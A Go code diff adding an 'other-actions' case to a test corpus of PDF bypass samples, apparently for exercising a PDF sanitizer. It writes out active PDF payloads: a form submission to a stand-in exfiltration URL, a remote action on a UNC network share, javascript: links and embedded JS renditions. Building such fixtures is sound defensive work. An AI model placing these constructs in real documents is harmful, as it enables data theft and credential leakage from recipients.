@@ -219,6 +219,17 @@ func PDFBypasses(t testing.TB) []Bypass {
 		textPage(""), embedded(6, "x.exe"))...)
 	bad = regexp.MustCompile(`\d{10} 00000 n`).ReplaceAll(bad, []byte("0000000009 00000 n"))
 	add("broken-xref", bad)
+	// every other kind of action and active annotation, on links, pages and the catalog
+	link := func(a string) string { return "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + a + " >>" }
+	add("other-actions", BuildPDF("", cat(catalog("/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
+		textPage("/Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R 11 0 R] /AA << /C << /S /ImportData /F (data.fdf) >> >>"),
+		one(link("<< /S /SubmitForm /F << /FS /URL /F (http://x.example/steal) >> >>"),
+			link("<< /S /GoToE /T << /R /C /N (a.pdf) >> >>"),
+			link("<< /S /URI /URI (javascript:app.alert\\(3\\)) >>"),
+			"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << /Assets << /Names [(a.swf) << /Type /Filespec /F (a.swf) >>] >> >> >>",
+			"<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Rendition /OP 0 /JS (app.alert\\(4\\)) >> >>",
+			"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 10 10] /A << /S /Movie /T (m) >> /AA << /U << /S /Sound /Sound 12 0 R >> >> >>"),
+		one(PDFStreamObj("/Type /Sound /R 8000", []byte("noise"))))...))
 	add("hybrid-xrefstm", hybridPDF(t, BuildPDF("", cat(catalog(""), textPage(""))...)))
 	return out
 }
